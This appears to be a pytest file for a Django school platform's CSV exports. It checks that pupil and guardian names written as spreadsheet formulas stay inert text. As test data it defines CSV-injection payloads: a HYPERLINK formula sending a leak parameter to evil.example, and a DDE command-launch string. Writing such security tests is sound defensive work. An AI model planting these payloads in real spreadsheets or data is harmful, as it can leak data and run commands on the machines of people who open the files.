"""Every CSV Préau writes is formula-safe: a name typed as a spreadsheet formula stays text."""

import csv
import io

import pytest
from django.urls import reverse

from class_blog import notes as note_service
from ent_pages.exports import neutralise
from ent_pages.models import ClassPage, Guardian, Pupil
from ent_pages.registry.importer import import_city
from tests.factories import make_teacher

pytestmark = pytest.mark.django_db

PUPIL_NAME = '=HYPERLINK("http://evil.example/?leak=1";"Cliquez")'
GUARDIAN_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
GUARDIAN_FIRST_NAME = "+33 6 12 34 56 78"


def _rewrite(path, column, row_index, value):
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle, delimiter=";"))
    rows[row_index][rows[0].index(column)] = value
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, delimiter=";", lineterminator="\r\n").writerows(rows)
    return rows[row_index]


def _cells(response):
    return [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";") for cell in row]


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_cells_a_spreadsheet_would_evaluate_are_prefixed(value):
    assert neutralise(value) == "'" + value


def test_ordinary_cells_are_left_alone():
    assert [neutralise(v) for v in ("Zoé", "Jean-Luc", "", None, 12, "a=b")] == ["Zoé", "Jean-Luc", "", "", "12", "a=b"]


@pytest.fixture
def hostile_city(city_dir):
    """The registry brings a pupil and a guardian whose names are formulas."""
    _rewrite(city_dir / "eleves.csv", "Nom", 1, PUPIL_NAME)
    pupil_row = _rewrite(city_dir / "eleves.csv", "Prénom", 1, PUPIL_NAME)
    pupil_id = pupil_row[0]
    with (city_dir / "responsables.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle, delimiter=";"))
    index = next(i for i, row in enumerate(rows) if pupil_id in row[rows[0].index("Élèves")].split("|"))
    _rewrite(city_dir / "responsables.csv", "Nom", index, GUARDIAN_NAME)
    _rewrite(city_dir / "responsables.csv", "Prénom", index, GUARDIAN_FIRST_NAME)
    import_city(city_dir)
    pupil = Pupil.objects.get(last_name=PUPIL_NAME)
    guardian = Guardian.objects.get(last_name=GUARDIAN_NAME)
    class_page = ClassPage.objects.get(enrolments__pupil=pupil)
    return pupil, guardian, class_page


def test_hostile_names_leave_the_activation_report_as_text(client, hostile_city):
    pupil, guardian, class_page = hostile_city
    client.force_login(make_teacher(class_page))
    response = client.get(reverse("ent_pages_activation_report", args=[class_page.pk]), {"format": "csv"})
    cells = _cells(response)
    assert "'" + GUARDIAN_NAME in cells and "'" + GUARDIAN_FIRST_NAME in cells
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)  # the child, first name first
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert "no-store" in response["Cache-Control"]


def test_hostile_names_leave_the_note_acknowledgements_as_text(client, hostile_city):
    pupil, guardian, class_page = hostile_city
    teacher = make_teacher(class_page)
    note = note_service.send_note(teacher, title="Sortie", text="Merci de signer.", class_page=class_page)
    client.force_login(teacher)
    cells = _cells(client.get(reverse("class_blog:note_export", args=[note.pk])))
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)  # the pupil
    assert any(GUARDIAN_NAME in cell and cell.startswith("'+33") for cell in cells)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
